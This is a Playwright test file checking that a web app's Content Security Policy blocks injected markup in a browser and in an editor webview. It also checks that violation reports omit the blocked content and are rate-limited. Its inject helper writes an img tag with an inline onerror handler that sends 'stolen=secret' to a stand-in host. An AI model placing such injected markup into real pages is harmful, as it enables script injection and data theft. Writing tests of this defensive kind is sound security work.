import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { TestApp } from './fake/app.ts';
import { WORKSPACE } from './fake/fixtures.ts';
import { freshApp } from './fake/shared.ts';
import { asWebview } from './fake/vscode.ts';

/** Puts into the page what a view would that took text for markup: a picture of another place, with a handler. */
function inject(page: Page): Promise<void> {
  return page.evaluate(() =>
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="https://a.example/pixel.png?stolen=secret" onerror="window.ran = true">',
    ),
  );
}

describe('the policy of the page', () => {
  let app: TestApp;
  beforeEach(async () => {
    app = await freshApp();
  });

  const told = () =>
    app.companion.calls
      .filter(({ name }) => name === 'system.violation')
      .map(({ input }) => input as { directive: string; blocked: string; times: number });
  const until = async (done: () => boolean) => {
    for (let i = 0; i < 100 && !done(); i++) await new Promise((resolve) => setTimeout(resolve, 100));
    assert.ok(done(), JSON.stringify(told()));
  };
  const seen = () => new Set(told().map(({ directive, blocked }) => `${directive} ${blocked}`));
  const EXPECTED = ['script-src-attr inline', 'img-src https://a.example'];

  it('[W6] in a browser: an injected handler and picture are blocked, and told without what they would have carried', async () => {
    await using opened = await app.open('#/brief', { until: '.flight', prepare: async () => {} });
    await inject(opened.page);
    await until(() => seen().size === 2);
    assert.deepEqual([...seen()].toSorted(), EXPECTED.toSorted());
    assert.doesNotMatch(JSON.stringify(told()), /secret|pixel/);
    assert.equal(await opened.page.evaluate(() => 'ran' in window), false);
  });

  it('[W6] in a webview: the same, through the relay', async () => {
    await using opened = await app.open('', {
      path: '/webview',
      prepare: (page) => asWebview(page, { workspace: WORKSPACE }),
      until: '.flight',
    });
    await inject(opened.page);
    await until(() => seen().size === 2);
    assert.deepEqual([...seen()].toSorted(), EXPECTED.toSorted());
    assert.equal(await opened.page.evaluate(() => 'ran' in window), false);
  });

  it('[W6] a flood is counted to the last, in one call a second', async () => {
    await using opened = await app.open('#/brief', { until: '.flight', prepare: async () => {} });
    await opened.page.evaluate(() => {
      Object.assign(window, { blocked: 0 });
      document.addEventListener('securitypolicyviolation', () => {
        (window as unknown as { blocked: number }).blocked++;
      });
      for (let i = 0; i < 300; i++)
        document.body.insertAdjacentHTML('beforeend', `<i onclick="window.ran = ${i}"></i>`);
    });
    const sum = () => told().reduce((total, { times }) => total + times, 0);
    await until(() => sum() >= 300);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const blocked = await opened.page.evaluate(() => (window as unknown as { blocked: number }).blocked);
    assert.equal(sum(), blocked);
    assert.ok(told().length <= 5, `${told().length} calls`);
  });
});
